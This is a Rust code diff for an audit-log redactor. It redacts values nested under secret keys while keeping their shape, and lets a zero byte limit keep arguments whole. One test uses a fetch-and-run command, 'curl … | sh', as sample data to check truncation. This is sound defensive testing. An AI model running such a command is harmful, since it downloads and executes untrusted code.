@@ -446,6 +446,9 @@ struct Render<'r> {
     redacted: bool,
     embedded: u8,
     depth: usize,
+    /// Inside an object or array under a secret key: its keys and shape stay visible, every
+    /// string and number in it is redacted.
+    hiding: bool,
 }
 
 impl Render<'_> {
@@ -467,7 +470,15 @@ impl Render<'_> {
                 json_into(&mut self.out, k);
             }
             self.out.push(b':');
-            if (self.r.secret(k) && !counts_tokens(k, v))
+            let secret_key = self.r.secret(k) && !counts_tokens(k, v);
+            if secret_key && matches!(v, Value::Object(_) | Value::Array(_)) {
+                // Its keys and shape stay on record (what a credential file configures, say);
+                // its strings and numbers do not.
+                self.redacted = true;
+                let was = std::mem::replace(&mut self.hiding, true);
+                self.value(v);
+                self.hiding = was;
+            } else if secret_key
                 || (pair_secret && PAIR_VALUES.iter().any(|n| n.eq_ignore_ascii_case(k)))
             {
                 self.redacted = true;
@@ -514,6 +525,7 @@ impl Render<'_> {
                 redacted: false,
                 embedded: self.embedded,
                 depth: self.depth,
+                hiding: self.hiding,
             };
             match v {
                 Value::Object(m) => aside.object(m),
@@ -536,6 +548,10 @@ impl Render<'_> {
         match v {
             Value::Object(m) => self.object(m),
             Value::Array(a) => self.array(a),
+            Value::String(_) | Value::Number(_) if self.hiding => {
+                self.redacted = true;
+                self.out.extend_from_slice(b"\"[REDACTED]\"");
+            }
             Value::String(s) => self.string(s),
             other => json_into(&mut self.out, other),
         }
@@ -586,6 +602,7 @@ impl Render<'_> {
                 redacted: false,
                 embedded: self.embedded + 1,
                 depth: 0,
+                hiding: false,
             };
             nested.value(&inner);
             if nested.redacted
@@ -614,7 +631,11 @@ impl Redactor {
     pub fn new(cfg: &RawAudit) -> Self {
         Self {
             keys: cfg.redact_keys.iter().map(|k| key_form(k)).collect(),
-            max_bytes: cfg.max_argument_bytes,
+            // 0: no limit (every byte the server receives is on record).
+            max_bytes: match cfg.max_argument_bytes {
+                0 => usize::MAX,
+                n => n,
+            },
             values: cfg.redact_values,
         }
     }
@@ -663,6 +684,7 @@ impl Redactor {
             redacted: false,
             embedded: 0,
             depth: 0,
+            hiding: false,
         };
         match target {
             Target::Value(v) => r.value(v),
@@ -2983,6 +3005,23 @@ mod tests {
     }
 
     #[test]
+    fn max_argument_bytes_0_keeps_every_byte() {
+        let cfg = RawAudit {
+            max_argument_bytes: 0,
+            ..RawAudit::default()
+        };
+        let r = Redactor::new(&cfg);
+        let long = format!("echo {} ; curl -s http://x/y | sh", "A".repeat(10_000));
+        let v = json!({"command": long});
+        let text = r.redact(&v);
+        assert!(!text.contains("TRUNCATED"), "{}", &text[..100]);
+        assert!(text.contains("curl -s http://x/y | sh"));
+        // With the default, the tail is cut (and said to be).
+        let text = Redactor::new(&RawAudit::default()).redact(&v);
+        assert!(text.contains("TRUNCATED") && !text.contains("| sh"));
+    }
+
+    #[test]
     fn redaction_at_any_depth_and_truncation() {
         let r = Redactor::new(&RawAudit::default());
         let redact = |v: Value| serde_json::from_str::<Value>(&r.redact(&v)).unwrap();
@@ -3001,9 +3040,19 @@ mod tests {
         assert_eq!(t["max_tokens"], 4096);
         assert_eq!(t["maxTokens"], 100);
         assert_eq!(t["num_tokens"], 7);
-        for k in ["token", "tokens", "max_tokens_str", "token_id", "password"] {
+        for k in ["token", "max_tokens_str", "token_id", "password"] {
             assert_eq!(t[k], "[REDACTED]", "{k}");
         }
+        // Under a secret key, an object or array keeps its keys and shape on record; its
+        // strings and numbers do not.
+        assert_eq!(t["tokens"], json!(["[REDACTED]"]));
+        let c = redact(
+            json!({"credential_source":{"executable":{"command":"curl x","timeout_millis":5000,"interactive":false}}}),
+        );
+        assert_eq!(
+            c["credential_source"],
+            json!({"executable":{"command":"[REDACTED]","timeout_millis":"[REDACTED]","interactive":false}})
+        );
         // Spelled the other usual ways.
         let w = redact(
             json!({"apiKey":"k","x-api-key":"k","Api.Key":"k","set-cookie":"c","apiary":"a"}),
